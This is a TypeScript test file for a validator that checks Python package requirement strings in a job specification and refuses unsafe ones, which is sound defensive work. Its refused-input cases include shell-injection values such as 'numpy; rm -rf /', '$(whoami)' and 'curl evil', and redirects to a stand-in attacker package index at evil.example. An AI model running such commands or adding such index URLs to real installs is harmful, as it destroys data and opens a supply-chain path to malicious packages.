import { describe, expect, it } from 'vitest';
import { jobFileSchema, jobSpecSchema } from './job-spec';
import { parseRequirementsText, PYTHON_REQUIREMENT_MAX_LENGTH, PYTHON_REQUIREMENTS_MAX, pythonRequirementProblem } from './python-requirements';

describe('a Python requirement', () => {
  it.each([
    'numpy',
    'numpy==2.1.3',
    'mlflow-skinny==3.17.2',
    'PyYAML==6.0.2',
    'zope.interface>=6',
    'mlflow-skinny[databricks]>=3.1,<4',
    'requests [security, socks] ~= 2.31',
    'numpy (>=1.24, <3)',
    'torch==2.3.*',
    'scikit-learn!=1.3.0',
    'tomli; python_version < "3.11"',
    "pywin32 >= 306 ; sys_platform == 'win32' and python_version >= '3.8'",
    'pkg===1.0+local.1',
  ])('accepts %j', (r) => {
    expect(pythonRequirementProblem(r)).toBeUndefined();
  });

  it.each([
    ['--index-url https://evil.example/simple', /pip options such as '--index-url' are not accepted/],
    ['--extra-index-url=https://evil.example/simple', /pip options such as '--extra-index-url' are not accepted/],
    ['-e .', /pip options such as '-e'/],
    ['-r other.txt', /pip options such as '-r'/],
    ['--trusted-host evil.example', /pip options/],
    ['numpy --index-url https://evil.example/simple', /pip options after a requirement are not accepted/],
    ['numpy==1.0 --hash=sha256:abc', /pip options after a requirement/],
    ['numpy --config-settings=x=y', /pip options after a requirement/],
    ['pkg @ https://evil.example/pkg.whl', /Direct references and URLs are not accepted/],
    ['git+https://github.com/x/y.git', /Direct references and URLs/],
    ['./vendor/pkg', /Files and paths are not accepted/],
    ['/tmp/pkg.whl', /Files and paths/],
    ['pkg-1.0.tar.gz', /Files and paths/],
    ['numpy; rm -rf /', /pip options after a requirement/],
    ['numpy; touch x', /Not a requirement pip reads/],
    ['numpy==$(whoami)', /Not a requirement pip reads/],
    ['numpy==${TOKEN}', /Not a requirement pip reads/],
    ['numpy`id`', /Not a requirement pip reads/],
    ['numpy && curl evil', /Not a requirement pip reads/],
    ['numpy # a comment', /Not a requirement pip reads/],
    ['numpy\n--index-url x', /one line of text/],
    ['numpy\u0000', /one line of text/],
    ['numpy==1.0\\', /Files and paths/],
    ['', /must not be empty/],
    ['   ', /must not be empty/],
    ['a'.repeat(PYTHON_REQUIREMENT_MAX_LENGTH + 1), /at most 200 characters/],
  ])('refuses %j, saying why', (r, why) => {
    expect(pythonRequirementProblem(r)).toMatch(why);
  });
});

describe('python in the job spec', () => {
  const base = { project: 'churn', command: ['python3', 'train.py'] };

  it('is null when left out, and keeps the trimmed list when given', () => {
    expect(jobSpecSchema.parse(base).python).toBeNull();
    expect(jobSpecSchema.parse({ ...base, python: null }).python).toBeNull();
    expect(jobSpecSchema.parse({ ...base, python: { requirements: [' numpy==2.1.3 ', 'six'] } }).python).toEqual({ requirements: ['numpy==2.1.3', 'six'] });
  });

  it('puts each bad requirement at its own path, with its message', () => {
    const r = jobSpecSchema.safeParse({ ...base, python: { requirements: ['numpy', '--index-url https://evil.example', 'x @ https://y'] } });
    expect(r.success).toBe(false);
    expect(r.error!.issues.map((i) => [i.path.join('.'), i.message])).toEqual([
      ['python.requirements.1', expect.stringMatching(/^pip options such as '--index-url' are not accepted/)],
      ['python.requirements.2', expect.stringMatching(/^Direct references/)],
    ]);
  });

  it('bounds the list and refuses an empty one or unknown keys', () => {
    const many = Array.from({ length: PYTHON_REQUIREMENTS_MAX + 1 }, (_, i) => `pkg${i}`);
    expect(jobSpecSchema.safeParse({ ...base, python: { requirements: many } }).error?.issues[0]?.message).toBe(`At most ${PYTHON_REQUIREMENTS_MAX} requirements`);
    expect(jobSpecSchema.safeParse({ ...base, python: { requirements: [] } }).error?.issues[0]?.message).toBe('List at least one requirement, or leave python out');
    expect(jobSpecSchema.safeParse({ ...base, python: { requirements: ['six'], indexUrl: 'https://evil.example' } }).success).toBe(false);
    // A file is read by whoever reads the job file; the server takes the list only.
    expect(jobSpecSchema.safeParse({ ...base, python: { requirementsFile: 'requirements.txt' } }).success).toBe(false);
    expect(jobFileSchema.safeParse({ ...base, python: { requirementsFile: 'requirements.txt' } }).success).toBe(true);
  });
});

describe('a requirements file', () => {
  it('gives one requirement per line, skipping blank lines and comments', () => {
    const text = '# pinned for the example\nnumpy==2.4.6   # the maths\n\n  pandas==2.2.3\r\nPyYAML==6.0.2\n';
    expect(parseRequirementsText(text)).toEqual({ requirements: ['numpy==2.4.6', 'pandas==2.2.3', 'PyYAML==6.0.2'], problems: [] });
  });

  it('reports every refused line with its number', () => {
    const text = 'numpy\n--index-url https://evil.example/simple\nsix\n-r more.txt\npkg==1 \\\n  --hash=sha256:00\n';
    const { requirements, problems } = parseRequirementsText(text);
    expect(requirements).toEqual(['numpy', 'six']);
    expect(problems.map((p) => p.line)).toEqual([2, 4, 5, 6]);
    expect(problems[0]!.message).toMatch(/^'--index-url https:\/\/evil.example\/simple': pip options such as '--index-url'/);
    expect(problems[2]!.message).toMatch(/Continued lines/);
  });

  it('is bounded like the list', () => {
    const text = Array.from({ length: PYTHON_REQUIREMENTS_MAX + 1 }, (_, i) => `pkg${i}`).join('\n');
    expect(parseRequirementsText(text).problems).toEqual([{ line: 0, message: `At most ${PYTHON_REQUIREMENTS_MAX} requirements` }]);
  });
});
